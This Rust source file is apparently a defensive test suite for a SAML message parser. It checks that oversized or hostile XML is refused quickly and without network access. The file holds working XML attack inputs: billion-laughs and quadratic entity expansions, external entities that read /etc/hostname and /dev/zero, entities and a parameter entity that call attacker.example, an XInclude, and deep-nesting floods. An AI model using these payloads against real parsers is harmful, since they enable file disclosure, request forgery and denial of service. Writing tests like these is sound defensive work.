//! Small messages that grow, and large ones (SAML-68): refused quickly and without the network.

use super::bench::{Bench, Form, Verdict};

const XML: Verdict = Verdict::Refused(&["SAML-XML"]);
const LARGE: Verdict = Verdict::Refused(&["SAML-MESSAGE", "SAML-XML"]);
const ROW: &str = "SAML-68";

pub(super) fn cases(bench: &mut Bench<'_>) {
    entities(bench);
    depths(bench);
    garbage(bench);
}

fn entities(bench: &mut Bench<'_>) {
    let laugh = |n: usize| format!("<!ENTITY a{n} \"{}\">", format!("&a{};", n - 1).repeat(10));
    let laughs = (1..10).map(laugh).collect::<String>();
    let laughs = format!("<!ENTITY a0 \"{}\">{laughs}", "lol".repeat(10));
    let quadratic = format!("<!ENTITY q \"{}\">", "q".repeat(50_000));
    for (name, subset, used) in [
        ("a billion laughs", laughs.as_str(), "&a9;"),
        ("a quadratic blow-up", &quadratic, &"&q;".repeat(5_000)),
        ("an entity of itself", "<!ENTITY s \"&s;\">", "&s;"),
        ("an external file", "<!ENTITY f SYSTEM \"file:///etc/hostname\">", "&f;"),
        ("an external address", "<!ENTITY h SYSTEM \"http://attacker.example/\">", "&h;"),
        ("a parameter entity", "<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;", ""),
        ("a file without end", "<!ENTITY z SYSTEM \"file:///dev/zero\">", "&z;"),
    ] {
        let extensions = format!("<samlp:Extensions>{used}</samlp:Extensions><samlp:Status>");
        bench.after(
            &Form::ALL,
            ROW,
            name,
            (XML, |xml: &str| {
                let xml = xml.replacen("<samlp:Status>", &extensions, 1);
                format!("<!DOCTYPE samlp:Response [{subset}]>{xml}")
            }),
        );
    }
    let include = "<samlp:Extensions><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" \
                   href=\"file:///etc/hostname\" parse=\"text\"></xi:include></samlp:Extensions>";
    bench.before(ROW, "an XInclude, which nobody follows", Verdict::Accepted, |message| {
        message.replaced = vec![("<samlp:Status>".to_owned(), format!("{include}<samlp:Status>"))];
    });
}

fn depths(bench: &mut Bench<'_>) {
    let many = |count: usize, one: &dyn Fn(usize) -> String| (0..count).map(one).collect::<String>();
    let deep = format!("{}{}", "<x>".repeat(100_000), "</x>".repeat(100_000));
    let attributes = format!("<x {}></x>", many(1_000_000, &|n| format!("a{n}=\"\" ")));
    let namespaces = format!("<x {}></x>", many(5_000, &|n| format!("xmlns:n{n}=\"u:{n}\" ")));
    let siblings = "<x></x>".repeat(200_000);
    for (name, content, verdict) in [
        ("100,000 elements deep", &deep, LARGE),
        ("a million attributes", &attributes, LARGE),
        ("5,000 namespaces", &namespaces, XML),
        ("200,000 siblings", &siblings, LARGE),
    ] {
        // In an extension, and once: forms do not matter to a parser.
        let extensions = format!("<samlp:Extensions>{content}</samlp:Extensions><samlp:Status>");
        let form = [Form::AssertionSigned];
        bench.after(&form, ROW, name, (verdict, |xml: &str| xml.replacen("<samlp:Status>", &extensions, 1)));
    }
    let tag = format!("<samlp:Response {}", many(5_000, &|n| format!("xmlns:n{n}=\"u:{n}\" ")));
    bench.after(
        &Form::ALL,
        ROW,
        "5,000 namespaces of the response",
        (XML, |xml: &str| xml.replacen("<samlp:Response ", &tag, 1)),
    );
}

fn garbage(bench: &mut Bench<'_>) {
    let form = Form::BothSigned;
    bench.case(ROW, "1 MiB of a letter", form, ("x".repeat(1 << 20), LARGE));
    bench.case(ROW, "1 MiB of tags that open", form, ("<x>".repeat(350_000), LARGE));
    bench.case(ROW, "1 MiB of brackets", form, ("<".repeat(1 << 20), LARGE));
    bench.case(ROW, "1 MiB of an attribute", form, (format!("<x a=\"{}", "y".repeat(1 << 20)), LARGE));
    bench.case(ROW, "1 MiB of a comment", form, (format!("<!--{}", "-".repeat(1 << 20)), LARGE));
    bench.case(ROW, "1 MiB of references", form, (format!("<x>{}</x>", "&amp;".repeat(200_000)), LARGE));
}
